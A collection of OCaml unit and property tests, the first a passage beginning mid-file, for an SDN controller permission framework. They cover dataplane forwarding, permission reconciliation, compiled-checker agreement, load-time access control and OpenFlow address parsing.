  Alcotest.(check int) "at s1" 1 punt.Dataplane.dpid;
  Alcotest.(check int) "ingress port" 3 punt.Dataplane.in_port

let install_path dp topo ~(dst : Topology.host) =
  (* Minimal routing: for every switch, forward dst's IP towards it. *)
  List.iter
    (fun sw ->
      let dst_sw = dst.Topology.attachment.Topology.dpid in
      let port =
        if sw = dst_sw then Some dst.Topology.attachment.Topology.port
        else
          match Topology.shortest_path topo ~src:sw ~dst:dst_sw with
          | Some (_ :: next :: _) ->
            Option.map fst (Topology.link_ports_between topo ~src:sw ~dst:next)
          | _ -> None
      in
      match port with
      | Some p ->
        ignore
          (Dataplane.apply_flow_mod dp sw
             (Flow_mod.add
                ~match_:(Match_fields.make ~nw_dst:(Match_fields.exact_ip dst.Topology.ip) ())
                ~actions:[ Action.Output p ] ()))
      | None -> ())
    (Topology.switches topo)

let test_dataplane_end_to_end_delivery () =
  let topo, dp = linear_dp 4 in
  let h1 = host topo "h1" and h4 = host topo "h4" in
  install_path dp topo ~dst:h4;
  match Dataplane.probe dp ~src:h1 ~dst:h4 () with
  | Dataplane.Delivered_to (name, path) ->
    Alcotest.(check string) "to h4" "h4" name;
    Alcotest.(check (list int)) "via all switches" [ 1; 2; 3; 4 ] path
  | _ -> Alcotest.fail "expected delivery"

let test_dataplane_loop_detection () =
  let topo, dp = linear_dp 2 in
  (* s1 sends port-80 traffic to s2 and s2 sends it straight back. *)
  let m = Match_fields.make ~tp_dst:80 () in
  ignore (Dataplane.apply_flow_mod dp 1 (Flow_mod.add ~match_:m ~actions:[ Action.Output 2 ] ()));
  ignore (Dataplane.apply_flow_mod dp 2 (Flow_mod.add ~match_:m ~actions:[ Action.Output 1 ] ()));
  let h1 = host topo "h1" in
  let p = pkt ~src:h1.Topology.mac () in
  let r = Dataplane.inject_at dp ~dpid:1 ~in_port:3 p in
  Alcotest.(check bool) "looped" true r.Dataplane.looped

let test_dataplane_packet_out_flood () =
  let topo, dp = linear_dp 2 in
  ignore topo;
  let p = Packet.arp ~src:1 ~dst:Types.broadcast_mac () in
  let r = Dataplane.packet_out dp ~dpid:1 ~port:(-1) p in
  (* Flood from s1 reaches h1 directly and s2 (which punts on miss). *)
  Alcotest.(check int) "delivered to h1" 1 (List.length r.Dataplane.delivered);
  Alcotest.(check int) "punted at s2" 1 (List.length r.Dataplane.punted)

let test_dataplane_stats_fanout () =
  let _topo, dp = linear_dp 3 in
  (match Dataplane.stats dp (Stats.request Stats.Switch_level) with
  | Stats.Switch_stats l -> Alcotest.(check int) "3 switches" 3 (List.length l)
  | _ -> Alcotest.fail "wrong reply");
  match Dataplane.stats dp (Stats.request ~dpid:2 Stats.Port_level) with
  | Stats.Port_stats [ (2, _) ] -> ()
  | _ -> Alcotest.fail "expected port stats for s2 only"

let test_dataplane_tick_expiry () =
  let _topo, dp = linear_dp 1 in
  ignore
    (Dataplane.apply_flow_mod dp 1
       (Flow_mod.add ~hard_timeout:1 ~match_:Match_fields.wildcard_all ~actions:[] ()));
  let expired = Dataplane.tick dp in
  Alcotest.(check int) "expired after tick" 1 (List.length expired)

let suite =
  [ Alcotest.test_case "table priority order" `Quick test_table_priority_order;
    Alcotest.test_case "table add replaces" `Quick test_table_add_replaces;
    Alcotest.test_case "table modify" `Quick test_table_modify;
    Alcotest.test_case "table delete subsumed" `Quick test_table_delete_subsumed;
    Alcotest.test_case "table counters/stats" `Quick test_table_counters_and_stats;
    Alcotest.test_case "table count by cookie" `Quick test_table_count_by_cookie;
    Alcotest.test_case "table hard timeout" `Quick test_table_hard_timeout;
    Alcotest.test_case "topology linear" `Quick test_topology_linear;
    Alcotest.test_case "topology tree" `Quick test_topology_tree;
    Alcotest.test_case "topology disconnect" `Quick test_topology_disconnect;
    Alcotest.test_case "topology remove switch" `Quick test_topology_remove_switch;
    Alcotest.test_case "topology lookups" `Quick test_topology_lookups;
    Alcotest.test_case "topology path hops" `Quick test_topology_path_hops;
    Alcotest.test_case "switch miss punts" `Quick test_switch_table_miss_punts;
    Alcotest.test_case "switch forward/flood" `Quick test_switch_forward_and_flood;
    Alcotest.test_case "switch drop/counters" `Quick test_switch_drop_and_counters;
    Alcotest.test_case "switch rewrite pipeline" `Quick test_switch_rewrite_pipeline;
    Alcotest.test_case "dataplane miss punts" `Quick test_dataplane_miss_punts_at_ingress;
    Alcotest.test_case "dataplane delivery" `Quick test_dataplane_end_to_end_delivery;
    Alcotest.test_case "dataplane loop detection" `Quick test_dataplane_loop_detection;
    Alcotest.test_case "dataplane packet-out flood" `Quick test_dataplane_packet_out_flood;
    Alcotest.test_case "dataplane stats fanout" `Quick test_dataplane_stats_fanout;
    Alcotest.test_case "dataplane tick expiry" `Quick test_dataplane_tick_expiry ]
