(* Reconciliation-engine tests (§V-B2), centred on the paper's
   Scenario 1 walkthrough: stub expansion, mutual-exclusion repair by
   truncation, boundary repair by intersection, and violation
   reporting. *)

open Sdnshield

let manifest = Test_util.manifest_exn
let policy = Test_util.policy_exn

(* The paper's Scenario 1, verbatim ------------------------------------------- *)

let scenario1_manifest =
  manifest
    "PERM visible_topology LIMITING LocalTopo\n\
     PERM read_statistics\n\
     PERM network_access LIMITING AdminRange\n\
     PERM insert_flow"

let scenario1_policy =
  policy
    "LET LocalTopo = {SWITCH 0,1 LINK 3,4}\n\
     LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}\n\
     ASSERT EITHER { PERM network_access } OR { PERM insert_flow }"

let test_scenario1_full_pipeline () =
  let report =
    Reconcile.run ~apps:[ ("monitoring", scenario1_manifest) ] scenario1_policy
  in
  let final = List.assoc "monitoring" report.Reconcile.manifests in
  (* The paper's expected final permissions: visible_topology limited to
     the local switches, read_statistics, network_access limited to the
     admin range — and insert_flow truncated. *)
  Alcotest.(check bool) "insert_flow truncated" false
    (Perm.grants_token final Token.Insert_flow);
  Alcotest.(check bool) "topology kept" true
    (Perm.grants_token final Token.Visible_topology);
  Alcotest.(check bool) "stats kept" true
    (Perm.grants_token final Token.Read_statistics);
  Alcotest.(check bool) "network access kept" true
    (Perm.grants_token final Token.Host_network);
  (* Stubs were expanded. *)
  Alcotest.(check (list string)) "no macros left" [] (Perm.macros final);
  (match Perm.find final Token.Visible_topology with
  | Some { Perm.filter = Filter.Atom (Filter.Phys_topo pt); _ } ->
    Alcotest.(check (list int)) "LocalTopo switches" [ 0; 1 ]
      (Filter.Int_set.elements pt.Filter.switches)
  | _ -> Alcotest.fail "LocalTopo not expanded");
  (match Perm.find final Token.Host_network with
  | Some { Perm.filter = Filter.Atom (Filter.Pred { field = Filter.F_ip_dst; _ }); _ } -> ()
  | _ -> Alcotest.fail "AdminRange not expanded");
  (* Exactly one violation, repaired by exclusive truncation. *)
  (match report.Reconcile.violations with
  | [ v ] ->
    Alcotest.(check bool) "action" true (v.Reconcile.action = Reconcile.Truncated_exclusive);
    Alcotest.(check (option string)) "app" (Some "monitoring") v.Reconcile.app
  | vs -> Alcotest.failf "expected 1 violation, got %d" (List.length vs));
  Alcotest.(check (list (pair string (list string)))) "no unresolved stubs" []
    report.Reconcile.unresolved_macros

let test_scenario1_via_strings () =
  let manifest_src =
    "PERM visible_topology LIMITING LocalTopo\n\
     PERM read_statistics\nPERM network_access LIMITING AdminRange\nPERM insert_flow"
  in
  let policy_src =
    "LET LocalTopo = {SWITCH 0,1 LINK 3,4}\n\
     LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}\n\
     ASSERT EITHER { PERM network_access } OR { PERM insert_flow }"
  in
  match Reconcile.run_strings ~app_name:"m" ~manifest_src ~policy_src with
  | Ok (final, report) ->
    Alcotest.(check bool) "truncated" false (Perm.grants_token final Token.Insert_flow);
    Alcotest.(check int) "one violation" 1 (List.length report.Reconcile.violations)
  | Error e -> Alcotest.fail e

(* Mutual exclusion ------------------------------------------------------------ *)

let test_exclusive_no_violation_when_one_side () =
  let m = manifest "PERM insert_flow\nPERM read_statistics" in
  let p = policy "ASSERT EITHER { PERM host_network } OR { PERM insert_flow }" in
  let report = Reconcile.run ~apps:[ ("app", m) ] p in
  Alcotest.(check int) "no violation" 0 (List.length report.Reconcile.violations);
  Alcotest.(check bool) "untouched" true
    (Perm.grants_token (List.assoc "app" report.Reconcile.manifests) Token.Insert_flow)

let test_exclusive_truncates_second_operand () =
  (* The *second* operand set is the one truncated (as in Scenario 1). *)
  let m = manifest "PERM host_network\nPERM send_pkt_out" in
  let p = policy "ASSERT EITHER { PERM host_network } OR { PERM send_pkt_out }" in
  let report = Reconcile.run ~apps:[ ("app", m) ] p in
  let final = List.assoc "app" report.Reconcile.manifests in
  Alcotest.(check bool) "first kept" true (Perm.grants_token final Token.Host_network);
  Alcotest.(check bool) "second dropped" false (Perm.grants_token final Token.Send_pkt_out)

let test_exclusive_applies_per_app () =
  let net = manifest "PERM host_network" in
  let both = manifest "PERM host_network\nPERM insert_flow" in
  let p = policy "ASSERT EITHER { PERM host_network } OR { PERM insert_flow }" in
  let report = Reconcile.run ~apps:[ ("clean", net); ("dirty", both) ] p in
  Alcotest.(check int) "one violation" 1 (List.length report.Reconcile.violations);
  Alcotest.(check bool) "clean untouched" true
    (Perm.grants_token (List.assoc "clean" report.Reconcile.manifests) Token.Host_network);
  Alcotest.(check bool) "dirty repaired" false
    (Perm.grants_token (List.assoc "dirty" report.Reconcile.manifests) Token.Insert_flow)

(* Permission boundary ----------------------------------------------------------- *)

let test_boundary_pass () =
  let m = manifest "PERM visible_topology\nPERM read_statistics LIMITING PORT_LEVEL" in
  let p =
    policy
      "LET appPerm = APP monitor\n\
       LET tpl = { PERM read_topology PERM read_statistics PERM network_access }\n\
       ASSERT appPerm <= tpl"
  in
  let report = Reconcile.run ~apps:[ ("monitor", m) ] p in
  Alcotest.(check int) "no violations" 0 (List.length report.Reconcile.violations)

let test_boundary_violation_truncates () =
  (* The paper's monitoring template (§V-A): reading topology,
     port-level statistics and talking to collectors at 192.168/16 —
     nothing more. *)
  let m =
    manifest
      "PERM visible_topology\nPERM read_statistics\nPERM insert_flow\n\
       PERM network_access LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0"
  in
  let p =
    policy
      "LET monitorAppPerm = APP monitor\n\
       LET templatePerm = {\n\
       PERM read_topology\n\
       PERM read_statistics LIMITING PORT_LEVEL\n\
       PERM network_access LIMITING IP_DST 192.168.0.0 MASK 255.255.0.0\n\
       }\n\
       ASSERT monitorAppPerm <= templatePerm"
  in
  let report = Reconcile.run ~apps:[ ("monitor", m) ] p in
  let final = List.assoc "monitor" report.Reconcile.manifests in
  (* Repair = meet with the template. *)
  Alcotest.(check bool) "insert_flow removed" false
    (Perm.grants_token final Token.Insert_flow);
  Alcotest.(check bool) "topology kept" true
    (Perm.grants_token final Token.Visible_topology);
  (* After repair, the boundary holds. *)
  let tpl =
    manifest
      "PERM read_topology\nPERM read_statistics LIMITING PORT_LEVEL\n\
       PERM network_access LIMITING IP_DST 192.168.0.0 MASK 255.255.0.0"
  in
  Alcotest.(check bool) "within boundary now" true
    (Inclusion.manifest_includes tpl final);
  match report.Reconcile.violations with
  | [ v ] ->
    Alcotest.(check bool) "boundary action" true
      (v.Reconcile.action = Reconcile.Truncated_to_boundary)
  | _ -> Alcotest.fail "expected exactly one violation"

let test_boundary_narrows_filters () =
  (* A boundary doesn't just drop tokens: it narrows surviving filters. *)
  let m = manifest "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0" in
  let p =
    policy
      "LET a = APP app\n\
       LET b = { PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0 }\n\
       ASSERT a <= b"
  in
  let report = Reconcile.run ~apps:[ ("app", m) ] p in
  let final = List.assoc "app" report.Reconcile.manifests in
  let bound = manifest "PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0" in
  Alcotest.(check bool) "narrowed into bound" true
    (Inclusion.manifest_includes bound final);
  Alcotest.(check bool) "still grants the token" true
    (Perm.grants_token final Token.Insert_flow)

let test_boundary_alert_only_when_untargetable () =
  (* A failed assertion between two blocks has no repair target: the
     engine alerts without modifying anything. *)
  let p =
    policy
      "ASSERT { PERM insert_flow } <= { PERM read_statistics }"
  in
  let m = manifest "PERM insert_flow" in
  let report = Reconcile.run ~apps:[ ("app", m) ] p in
  (match report.Reconcile.violations with
  | [ v ] -> Alcotest.(check bool) "alert" true (v.Reconcile.action = Reconcile.Alert_only)
  | _ -> Alcotest.fail "expected alert");
  Alcotest.(check bool) "manifest untouched" true
    (Perm.grants_token (List.assoc "app" report.Reconcile.manifests) Token.Insert_flow)

(* Other comparison / combinator asserts --------------------------------------------- *)

let test_assert_equality_and_ordering () =
  let m = manifest "PERM read_statistics" in
  let ok =
    policy
      "LET a = APP app\nASSERT a = { PERM read_statistics }\n\
       ASSERT a >= { PERM read_statistics }\nASSERT { PERM read_statistics } <= a"
  in
  let report = Reconcile.run ~apps:[ ("app", m) ] ok in
  Alcotest.(check int) "all hold" 0 (List.length report.Reconcile.violations);
  let strict = policy "LET a = APP app\nASSERT a < { PERM read_statistics }" in
  let report = Reconcile.run ~apps:[ ("app", m) ] strict in
  (* a < a fails (not strict). *)
  Alcotest.(check int) "strict fails" 1 (List.length report.Reconcile.violations)

let test_assert_combinators () =
  let m = manifest "PERM read_statistics" in
  let p =
    policy
      "LET a = APP app\n\
       ASSERT NOT a <= { PERM insert_flow } OR a <= { PERM read_statistics }"
  in
  let report = Reconcile.run ~apps:[ ("app", m) ] p in
  Alcotest.(check int) "disjunction holds" 0 (List.length report.Reconcile.violations)

let test_meet_join_in_policy () =
  let m = manifest "PERM insert_flow\nPERM read_statistics" in
  let p =
    policy
      "LET a = APP app\n\
       LET bound = { PERM insert_flow } JOIN { PERM read_statistics }\n\
       ASSERT a <= bound"
  in
  let report = Reconcile.run ~apps:[ ("app", m) ] p in
  Alcotest.(check int) "join bound holds" 0 (List.length report.Reconcile.violations)

(* Stubs ------------------------------------------------------------------------------ *)

let test_unresolved_stub_reported () =
  let m = manifest "PERM host_network LIMITING AdminRange" in
  let report = Reconcile.run ~apps:[ ("app", m) ] [] in
  (match report.Reconcile.unresolved_macros with
  | [ ("app", [ "AdminRange" ]) ] -> ()
  | _ -> Alcotest.fail "unresolved stub not reported");
  Alcotest.(check bool) "not ok" false (Reconcile.ok report)

let test_stub_expansion_inside_blocks () =
  (* Stubs also expand inside policy permission blocks. *)
  let m = manifest "PERM host_network LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0" in
  let p =
    policy
      "LET AdminRange = { IP_DST 10.1.0.0 MASK 255.255.0.0 }\n\
       LET a = APP app\n\
       ASSERT a <= { PERM host_network LIMITING AdminRange }"
  in
  let report = Reconcile.run ~apps:[ ("app", m) ] p in
  Alcotest.(check int) "boundary with stub holds" 0
    (List.length report.Reconcile.violations)

let test_report_ok_flag () =
  let clean = Reconcile.run ~apps:[ ("a", manifest "PERM read_statistics") ] [] in
  Alcotest.(check bool) "clean ok" true (Reconcile.ok clean)

let suite =
  [ Alcotest.test_case "scenario 1 full pipeline" `Quick test_scenario1_full_pipeline;
    Alcotest.test_case "scenario 1 via strings" `Quick test_scenario1_via_strings;
    Alcotest.test_case "exclusive: one side only" `Quick test_exclusive_no_violation_when_one_side;
    Alcotest.test_case "exclusive: truncates second" `Quick test_exclusive_truncates_second_operand;
    Alcotest.test_case "exclusive: per app" `Quick test_exclusive_applies_per_app;
    Alcotest.test_case "boundary: pass" `Quick test_boundary_pass;
    Alcotest.test_case "boundary: violation truncates" `Quick test_boundary_violation_truncates;
    Alcotest.test_case "boundary: narrows filters" `Quick test_boundary_narrows_filters;
    Alcotest.test_case "boundary: alert-only" `Quick test_boundary_alert_only_when_untargetable;
    Alcotest.test_case "assert: equality/ordering" `Quick test_assert_equality_and_ordering;
    Alcotest.test_case "assert: combinators" `Quick test_assert_combinators;
    Alcotest.test_case "assert: meet/join" `Quick test_meet_join_in_policy;
    Alcotest.test_case "stubs: unresolved reported" `Quick test_unresolved_stub_reported;
    Alcotest.test_case "stubs: expand in blocks" `Quick test_stub_expansion_inside_blocks;
    Alcotest.test_case "report ok flag" `Quick test_report_ok_flag ]
