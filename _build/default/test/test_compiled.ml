(* The closure-compiled checker must agree exactly with the
   interpreting engine on stateless decisions (unit cases plus a
   property over random manifests × calls). *)

open Shield_controller
open Sdnshield

let manifest = Test_util.manifest_exn

let decisions_agree manifest call =
  let engine =
    Engine.create ~record_state:false
      ~ownership:(Ownership.create ())
      ~app_name:"cmp" ~cookie:1 manifest
  in
  let compiled = Compiled.of_manifest manifest in
  let d1 = Engine.check engine call and d2 = Compiled.check compiled call in
  match (d1, d2) with
  | Api.Allow, Api.Allow | Api.Deny _, Api.Deny _ -> true
  | _ -> false

let test_compiled_matches_engine_basic () =
  let m =
    manifest
      "PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0 AND ACTION FORWARD\n\
       PERM read_statistics LIMITING PORT_LEVEL"
  in
  let calls =
    [ Api.Read_topology;
      Api.Read_stats (Shield_openflow.Stats.request Shield_openflow.Stats.Port_level);
      Api.Read_stats (Shield_openflow.Stats.request Shield_openflow.Stats.Switch_level);
      Api.Syscall (Api.Spawn_process "sh") ]
  in
  List.iter
    (fun call ->
      Alcotest.(check bool)
        (Fmt.str "%a" Api.pp_call call)
        true (decisions_agree m call))
    calls

let test_compiled_allow_and_deny () =
  let m = manifest "PERM read_statistics LIMITING FLOW_LEVEL" in
  let compiled = Compiled.of_manifest m in
  (match Compiled.check compiled (Api.Read_stats (Shield_openflow.Stats.request Shield_openflow.Stats.Flow_level)) with
  | Api.Allow -> ()
  | Api.Deny _ -> Alcotest.fail "flow-level should pass");
  (match Compiled.check compiled (Api.Read_stats (Shield_openflow.Stats.request Shield_openflow.Stats.Port_level)) with
  | Api.Deny _ -> ()
  | Api.Allow -> Alcotest.fail "port-level should fail");
  match Compiled.check compiled Api.Read_topology with
  | Api.Deny _ -> ()
  | Api.Allow -> Alcotest.fail "missing token should fail"

let qsuite =
  [ QCheck.Test.make ~count:500 ~name:"compiled = interpreted (stateless)"
      (QCheck.pair Test_perm_ops.manifest_arb Test_filters.call_arb)
      (fun (m, call) -> decisions_agree m call) ]

let suite =
  [ Alcotest.test_case "compiled matches engine" `Quick test_compiled_matches_engine_basic;
    Alcotest.test_case "compiled allow/deny" `Quick test_compiled_allow_and_deny ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false) qsuite
