(* Tests for the runtime extensions: domain-parallel KSD pool,
   load-time access control (§VIII-B), and the observer channel wiring
   flow expirations into the ownership store. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_net
open Shield_controller
open Sdnshield

let pkt_in ?(dpid = 1) () =
  Events.Packet_in
    { Message.dpid; in_port = 1; packet = Packet.arp ~src:0xA ~dst:0xB ();
      reason = Message.No_match; buffer_id = None }

(* Domain-parallel KSDs --------------------------------------------------------- *)

let test_domains_mode_basic () =
  let topo = Topology.linear 2 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let handled = ref 0 in
  let app =
    App.make ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun ctx _ ->
        incr handled;
        ignore
          (ctx.App.call
             (Api.Install_flow
                (1, Flow_mod.add ~match_:Match_fields.wildcard_all ~actions:[] ()))))
      "domapp"
  in
  let rt =
    Runtime.create
      ~mode:(Runtime.Isolated_domains { ksd_domains = 2 })
      kernel
      [ (app, Api.allow_all) ]
  in
  Runtime.feed_sync rt (pkt_in ());
  Runtime.feed_sync rt (pkt_in ());
  Runtime.shutdown rt;
  Alcotest.(check int) "events handled" 2 !handled;
  let sw = Dataplane.switch dp 1 in
  Alcotest.(check int) "rule installed via domain KSD" 1
    (Flow_table.size sw.Switch.table)

let test_domains_mode_async_drain () =
  let topo = Topology.linear 2 in
  let kernel = Kernel.create (Dataplane.create topo) in
  let handled = ref 0 in
  let app =
    App.make ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun ctx _ ->
        incr handled;
        ignore (ctx.App.call Api.Read_topology))
      "domapp2"
  in
  let rt =
    Runtime.create
      ~mode:(Runtime.Isolated_domains { ksd_domains = 1 })
      kernel
      [ (app, Api.allow_all) ]
  in
  for _ = 1 to 30 do
    Runtime.feed rt (pkt_in ())
  done;
  Runtime.drain rt;
  Runtime.shutdown rt;
  Alcotest.(check int) "all drained" 30 !handled

let test_domains_mode_with_engine () =
  (* The full SDNShield checker works across domains (its internal
     mutexes are domain-safe). *)
  let topo = Topology.linear 2 in
  let kernel = Kernel.create (Dataplane.create topo) in
  let ownership = Ownership.create () in
  let results = ref [] in
  let app =
    App.make ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun ctx _ ->
        results :=
          [ ctx.App.call
              (Api.Install_flow
                 ( 1,
                   Flow_mod.add
                     ~match_:
                       (Match_fields.make ~dl_type:Eth_ip
                          ~nw_dst:(Match_fields.exact_ip (ipv4_of_string "10.13.0.1"))
                          ())
                     ~actions:[ Action.Output 2 ] () ));
            ctx.App.call (Api.Syscall (Api.Spawn_process "sh")) ])
      "shielded"
  in
  let checker =
    Test_util.checker_of ~ownership ~topo ~name:"shielded" ~cookie:1
      "PERM pkt_in_event\nPERM read_payload\n\
       PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0"
  in
  let rt =
    Runtime.create
      ~mode:(Runtime.Isolated_domains { ksd_domains = 2 })
      kernel [ (app, checker) ]
  in
  Runtime.feed_sync rt (pkt_in ());
  Runtime.shutdown rt;
  match !results with
  | [ Api.Done; Api.Denied _ ] -> ()
  | rs -> Alcotest.failf "unexpected: %a" Fmt.(list Api.pp_result) rs

(* Load-time access control ------------------------------------------------------ *)

let test_load_time_reject () =
  let topo = Topology.linear 2 in
  let kernel = Kernel.create (Dataplane.create topo) in
  let ownership = Ownership.create () in
  let ran = ref false in
  (* Declares flow-write but its manifest grants read-only perms. *)
  let app =
    App.make
      ~subscriptions:[ Api.E_packet_in ]
      ~uses:[ Api.Cap_flow_write; Api.Cap_stats ]
      ~handle:(fun _ _ -> ran := true)
      "overreacher"
  in
  let checker =
    Test_util.checker_of ~ownership ~topo ~name:"overreacher" ~cookie:1
      "PERM pkt_in_event\nPERM read_statistics"
  in
  let rt =
    Runtime.create ~load_check:Runtime.Reject_at_load ~mode:Runtime.Monolithic
      kernel [ (app, checker) ]
  in
  Runtime.feed_sync rt (pkt_in ());
  Runtime.shutdown rt;
  Alcotest.(check bool) "never ran" false !ran;
  (match rt.Runtime.rejected with
  | [ ("overreacher", reason) ] ->
    Alcotest.(check bool) "reason mentions the capability" true
      (Test_util.contains_substring reason "flow-write")
  | _ -> Alcotest.fail "expected one rejected app");
  Alcotest.(check bool) "audited" true
    (Sandbox.denied_actions kernel.Kernel.sandbox ~app:"overreacher" <> [])

let test_load_time_subscription_check () =
  (* Subscribing to packet-ins without pkt_in_event is caught at load. *)
  let topo = Topology.linear 2 in
  let kernel = Kernel.create (Dataplane.create topo) in
  let ownership = Ownership.create () in
  let app = App.make ~subscriptions:[ Api.E_packet_in ] "nosy" in
  let checker =
    Test_util.checker_of ~ownership ~topo ~name:"nosy" ~cookie:1
      "PERM read_statistics"
  in
  let rt =
    Runtime.create ~load_check:Runtime.Reject_at_load ~mode:Runtime.Monolithic
      kernel [ (app, checker) ]
  in
  Runtime.shutdown rt;
  Alcotest.(check int) "rejected" 1 (List.length rt.Runtime.rejected)

let test_load_time_warn_keeps_app () =
  let topo = Topology.linear 2 in
  let kernel = Kernel.create (Dataplane.create topo) in
  let app =
    App.make ~uses:[ Api.Cap_flow_write ] ~subscriptions:[ Api.E_packet_in ]
      "warned"
  in
  let rt =
    Runtime.create ~load_check:Runtime.Warn_at_load ~mode:Runtime.Monolithic
      kernel
      [ (app, Api.deny_all) ]
  in
  Runtime.shutdown rt;
  Alcotest.(check int) "not rejected" 0 (List.length rt.Runtime.rejected);
  (* But the warning is in the audit log. *)
  let warnings =
    List.filter
      (fun (e : Sandbox.audit_entry) -> e.Sandbox.action = "load-time-check")
      (Sandbox.audit_log kernel.Kernel.sandbox)
  in
  Alcotest.(check int) "warning logged" 1 (List.length warnings)

let test_load_time_clean_app_passes () =
  let topo = Topology.linear 2 in
  let kernel = Kernel.create (Dataplane.create topo) in
  let ownership = Ownership.create () in
  let app =
    App.make ~uses:[ Api.Cap_flow_write ] ~subscriptions:[ Api.E_packet_in ]
      "clean"
  in
  let checker =
    Test_util.checker_of ~ownership ~topo ~name:"clean" ~cookie:1
      "PERM pkt_in_event\nPERM insert_flow"
  in
  let rt =
    Runtime.create ~load_check:Runtime.Reject_at_load ~mode:Runtime.Monolithic
      kernel [ (app, checker) ]
  in
  Runtime.shutdown rt;
  Alcotest.(check int) "loaded" 0 (List.length rt.Runtime.rejected)

(* Observer wiring ----------------------------------------------------------------- *)

let test_flow_expiry_frees_budget_end_to_end () =
  (* An app limited to one rule installs it with a hard timeout; after
     the switch expires it and the flow-removed event flows through the
     runtime, the engine's budget opens up again. *)
  let topo = Topology.linear 1 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let ownership = Ownership.create () in
  let results = ref [] in
  let app =
    App.make ~subscriptions:[ Api.E_app "go" ]
      ~handle:(fun ctx -> function
        | Events.App_published { payload; _ } ->
          let dst = ipv4_of_string payload in
          results :=
            !results
            @ [ ctx.App.call
                  (Api.Install_flow
                     ( 1,
                       Flow_mod.add ~hard_timeout:1
                         ~match_:
                           (Match_fields.make ~dl_type:Eth_ip
                              ~nw_dst:(Match_fields.exact_ip dst) ())
                         ~actions:[ Action.Output 1 ] () )) ]
        | _ -> ())
      "budgeted"
  in
  let checker =
    Test_util.checker_of ~ownership ~topo ~name:"budgeted" ~cookie:1
      "PERM insert_flow LIMITING MAX_RULE_COUNT 1\nPERM flow_event"
  in
  let rt = Runtime.create ~mode:Runtime.Monolithic kernel [ (app, checker) ] in
  let go dst = Events.App_published { source = "env"; tag = "go"; payload = dst } in
  Runtime.feed_sync rt (go "10.0.0.1");
  Runtime.feed_sync rt (go "10.0.0.2") (* over budget *);
  (* Let the switch expire the first rule and surface the events. *)
  let expired = Shield_net.Dataplane.tick dp @ Shield_net.Dataplane.tick dp in
  Alcotest.(check int) "one rule expired" 1 (List.length expired);
  List.iter
    (fun (dpid, (e : Flow_table.entry)) ->
      Runtime.feed_sync rt
        (Events.Flow_removed
           { dpid; match_ = e.Flow_table.match_; cookie = e.Flow_table.cookie }))
    expired;
  Runtime.feed_sync rt (go "10.0.0.3") (* budget freed *);
  Runtime.shutdown rt;
  match !results with
  | [ Api.Done; Api.Denied _; Api.Done ] -> ()
  | rs -> Alcotest.failf "unexpected sequence: %a" Fmt.(list Api.pp_result) rs

let suite =
  [ Alcotest.test_case "domains: basic dispatch" `Quick test_domains_mode_basic;
    Alcotest.test_case "domains: async drain" `Quick test_domains_mode_async_drain;
    Alcotest.test_case "domains: with engine" `Quick test_domains_mode_with_engine;
    Alcotest.test_case "load-time: reject" `Quick test_load_time_reject;
    Alcotest.test_case "load-time: subscription" `Quick test_load_time_subscription_check;
    Alcotest.test_case "load-time: warn keeps app" `Quick test_load_time_warn_keeps_app;
    Alcotest.test_case "load-time: clean app" `Quick test_load_time_clean_app_passes;
    Alcotest.test_case "flow expiry frees budget" `Quick test_flow_expiry_frees_budget_end_to_end ]
