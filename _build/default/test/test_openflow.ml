(* Unit tests for the OpenFlow message-model substrate. *)

open Shield_openflow
open Shield_openflow.Types

let test_ipv4_roundtrip () =
  List.iter
    (fun s ->
      Alcotest.(check string) s s (ipv4_to_string (ipv4_of_string s)))
    [ "0.0.0.0"; "10.13.0.0"; "192.168.1.255"; "255.255.255.255" ]

let test_ipv4_of_octets () =
  Alcotest.(check int32)
    "10.0.0.1" (ipv4_of_string "10.0.0.1") (ipv4_of_octets 10 0 0 1)

let test_ipv4_invalid () =
  List.iter
    (fun s ->
      Alcotest.check_raises ("reject " ^ s)
        (Invalid_argument (Printf.sprintf "ipv4_of_string: %S" s))
        (fun () -> ignore (ipv4_of_string s)))
    [ "10.0.0"; "10.0.0.0.1"; "256.0.0.1"; "a.b.c.d"; "" ]

let test_prefix_mask () =
  Alcotest.(check string) "/0" "0.0.0.0" (ipv4_to_string (prefix_mask 0));
  Alcotest.(check string) "/8" "255.0.0.0" (ipv4_to_string (prefix_mask 8));
  Alcotest.(check string) "/16" "255.255.0.0" (ipv4_to_string (prefix_mask 16));
  Alcotest.(check string) "/24" "255.255.255.0" (ipv4_to_string (prefix_mask 24));
  Alcotest.(check string) "/32" "255.255.255.255" (ipv4_to_string (prefix_mask 32))

let test_mask_prefix_len () =
  List.iter
    (fun len ->
      Alcotest.(check (option int))
        (Printf.sprintf "/%d" len)
        (Some len)
        (mask_prefix_len (prefix_mask len)))
    [ 0; 1; 8; 16; 24; 31; 32 ];
  Alcotest.(check (option int))
    "non-contiguous" None
    (mask_prefix_len (ipv4_of_string "255.0.255.0"))

let test_subnet_membership () =
  let subnet = ipv4_of_string "10.13.0.0" and mask = prefix_mask 16 in
  Alcotest.(check bool) "inside" true
    (ipv4_in_subnet ~addr:(ipv4_of_string "10.13.200.7") ~subnet ~mask);
  Alcotest.(check bool) "outside" false
    (ipv4_in_subnet ~addr:(ipv4_of_string "10.14.0.1") ~subnet ~mask)

let test_mac_roundtrip () =
  let m = mac_of_string "0a:1b:2c:3d:4e:5f" in
  Alcotest.(check string) "roundtrip" "0a:1b:2c:3d:4e:5f" (mac_to_string m);
  Alcotest.(check string) "broadcast" "ff:ff:ff:ff:ff:ff"
    (mac_to_string broadcast_mac)

let test_eth_ip_proto_codes () =
  Alcotest.(check int) "ip" 0x0800 (eth_type_code Eth_ip);
  Alcotest.(check int) "arp" 0x0806 (eth_type_code Eth_arp);
